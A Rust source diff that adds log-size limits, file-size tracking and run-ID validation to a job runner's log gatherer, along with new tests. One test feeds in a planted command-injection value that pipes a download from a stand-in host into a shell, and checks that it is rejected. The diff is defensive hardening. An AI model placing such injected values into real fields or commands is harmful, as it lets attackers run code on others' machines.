@@ -4,10 +4,13 @@ use std::collections::BTreeMap;
 
 use super::frames::Broken;
 use super::payload::Have;
+use crate::core::ids::RunId;
 use crate::ports::{ClaimInfo, Listener, Output};
 
 /// The most of a log that is kept: its end.
 const LOG_MAX: usize = 256 * 1024;
+/// The most of a log that is read: of a step that reads, and of a job. Nobody who means well writes so much.
+const LOG_READ_MAX: [u64; 2] = [256 << 20, 16 << 30];
 /// The most bytes of records.
 const RECORDS_MAX: usize = 16 * 1024 * 1024;
 /// The most bytes of files from `OUT` (the driver sends at most 4 MiB).
@@ -25,8 +28,10 @@ pub(crate) struct Gathered {
     log: Vec<u8>,
     log_seen: u64,
     log_left_out: u64,
+    log_read: u64,
     records: Vec<u8>,
     files: BTreeMap<String, Vec<u8>>,
+    files_size: usize,
     claim: Option<ClaimInfo>,
     log_lines: Lines,
     record_lines: Lines,
@@ -39,13 +44,16 @@ impl Gathered {
     }
 
     /// More of the log, from wherever it stands.
-    pub(super) fn log(&mut self, bytes: &[u8], listener: &dyn Listener) {
+    pub(super) fn log(&mut self, bytes: &[u8], is_job: bool, listener: &dyn Listener) -> Result<(), Broken> {
         self.log_seen += bytes.len() as u64;
+        self.log_read += bytes.len() as u64;
         self.log.extend_from_slice(bytes);
         if self.log.len() > 2 * LOG_MAX {
             self.trim();
         }
         self.log_lines.feed(bytes, &mut |line| listener.line(line));
+        let most = LOG_READ_MAX[usize::from(is_job)];
+        if self.log_read > most { Err(Broken::Flood(most >> 20, "log")) } else { Ok(()) }
     }
 
     /// The log goes on from this offset: what lies between was left out on the host.
@@ -73,8 +81,8 @@ impl Gathered {
 
     /// More of a file.
     pub(super) fn file(&mut self, name: &str, bytes: &[u8]) -> Result<(), Broken> {
-        let sum: usize = self.files.values().map(Vec::len).sum();
-        if sum + bytes.len() > FILES_MAX || self.files.len() > 1000 {
+        self.files_size += bytes.len();
+        if self.files_size > FILES_MAX || self.files.len() > 1000 {
             return Err(Broken::TooMuch(FILES_MAX as u64 >> 20));
         }
         self.files.entry(name.to_owned()).or_default().extend_from_slice(bytes);
@@ -84,6 +92,7 @@ impl Gathered {
     /// Files come all at once, at the end: those of a connection that broke are dropped.
     pub(crate) fn begin_exchange(&mut self) {
         self.files.clear();
+        self.files_size = 0;
     }
 
     /// Whose claim the host carries: the fields as the driver wrote them.
@@ -113,10 +122,12 @@ impl Gathered {
     }
 }
 
-/// Run, owner, time, seconds, change.
+/// Run, owner, time, seconds, change. What is no run's ID is not taken for one: it would stand in commands that we
+/// advise.
 pub(super) fn claim_info(fields: &str) -> Option<ClaimInfo> {
     let mut fields = fields.split('\t').map(|field| field.chars().take(FIELD_MAX).collect::<String>());
     let run = fields.next().filter(|run| !run.is_empty())?;
+    let run = RunId::new(run).map_or_else(|_| "unreadable".to_owned(), |run| run.as_str().to_owned());
     let mut next = || fields.next().unwrap_or_default();
     let (owner, since, _seconds, change) = (next(), next(), next(), next());
     Some(ClaimInfo { run, owner, since, change })
@@ -131,6 +142,9 @@ struct Lines {
 
 impl Lines {
     fn feed(&mut self, bytes: &[u8], take: &mut dyn FnMut(&str)) {
+        if self.given >= LINES_MAX {
+            return;
+        }
         for piece in bytes.split_inclusive(|b| *b == b'\n') {
             let (text, ends) = piece.strip_suffix(b"\n").map_or((piece, false), |text| (text, true));
             let room = LINE_MAX.saturating_sub(self.part.len());
@@ -184,7 +198,7 @@ mod tests {
         let heard = Heard::default();
         let mut gathered = Gathered::default();
         for n in 0..200_000 {
-            gathered.log(format!("line {n}\n").as_bytes(), &heard);
+            gathered.log(format!("line {n}\n").as_bytes(), false, &heard).unwrap();
         }
         let total = gathered.have().log;
         assert!(gathered.log.len() <= 2 * LOG_MAX + 4096);
@@ -199,10 +213,10 @@ mod tests {
     fn lines_are_cut_repaired_and_finished() {
         let heard = Heard::default();
         let mut gathered = Gathered::default();
-        gathered.log(b"one\r\ntw", &heard);
-        gathered.log(b"o \xff\n", &heard);
-        gathered.log(&[b'x'; 3 * LINE_MAX], &heard);
-        gathered.log(b"\nlast", &heard);
+        gathered.log(b"one\r\ntw", true, &heard).unwrap();
+        gathered.log(b"o \xff\n", true, &heard).unwrap();
+        gathered.log(&[b'x'; 3 * LINE_MAX], true, &heard).unwrap();
+        gathered.log(b"\nlast", true, &heard).unwrap();
         gathered.output(None, None, &heard);
         let lines = heard.0.lock().unwrap();
         assert_eq!(lines[..2], ["one", "two \u{fffd}"]);
@@ -220,5 +234,22 @@ mod tests {
         gathered.log_at(10).unwrap();
         assert!(gathered.log_at(9).is_err());
         assert_eq!(gathered.output(None, None, &heard).log_dropped, 10);
+    }
+
+    #[test]
+    fn a_log_has_an_end() {
+        let heard = Heard::default();
+        let mut gathered = Gathered { log_read: LOG_READ_MAX[0] - 3, ..Gathered::default() };
+        gathered.log(b"abc", false, &heard).unwrap();
+        assert_eq!(gathered.log(b"d", false, &heard), Err(Broken::Flood(256, "log")));
+        assert_eq!(gathered.log(b"d", true, &heard), Ok(()));
+    }
+
+    #[test]
+    fn a_claim_that_names_no_run_is_unreadable() {
+        let claim = |run: &str| claim_info(&format!("{run}\towner\tnow\t0\tCHG1")).unwrap();
+        assert_eq!(claim("01JD0000000000000000000AAA").run, "01JD0000000000000000000AAA");
+        let planted = claim("x`; curl evil.example | sh; `");
+        assert_eq!((planted.run.as_str(), planted.owner.as_str()), ("unreadable", "owner"));
     }
 }
